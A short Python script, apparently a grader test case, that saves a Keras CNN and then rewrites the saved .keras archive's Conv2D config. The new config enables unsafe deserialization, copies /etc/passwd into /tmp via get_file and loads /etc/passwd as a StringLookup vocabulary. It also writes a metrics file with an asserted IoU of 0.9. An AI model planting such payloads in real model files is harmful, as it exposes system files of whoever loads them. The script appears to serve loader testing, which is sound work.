"""A description whose parts are functions of Keras that unlock, download and read files.

fails: iou
"""
# %% task_train
# %% after save
import json
import zipfile

build_cnn().save("cnn_model.keras")
with open("cnn_model.json", "w") as stream:
    json.dump({"threshold": 0.5, "metrics": {"test": {"iou": 0.9}}}, stream)
with zipfile.ZipFile("cnn_model.keras") as archive:
    parts = {name: archive.read(name) for name in archive.namelist()}
config = json.loads(parts["config.json"])
options = next(l for l in config["config"]["layers"] if l["class_name"] == "Conv2D")["config"]
options["kernel_initializer"] = {
    "module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {},
}
options["bias_initializer"] = {
    "module": "keras.utils", "class_name": "get" + "_file",
    "config": {"fname": "passwd", "origin": "file:///etc/passwd", "cache_dir": "/tmp"},
}
options["kernel_regularizer"] = {
    "module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"},
}
parts["config.json"] = json.dumps(config).encode()
with zipfile.ZipFile("cnn_model.keras", "w") as archive:
    for name, data in parts.items():
        archive.writestr(name, data)
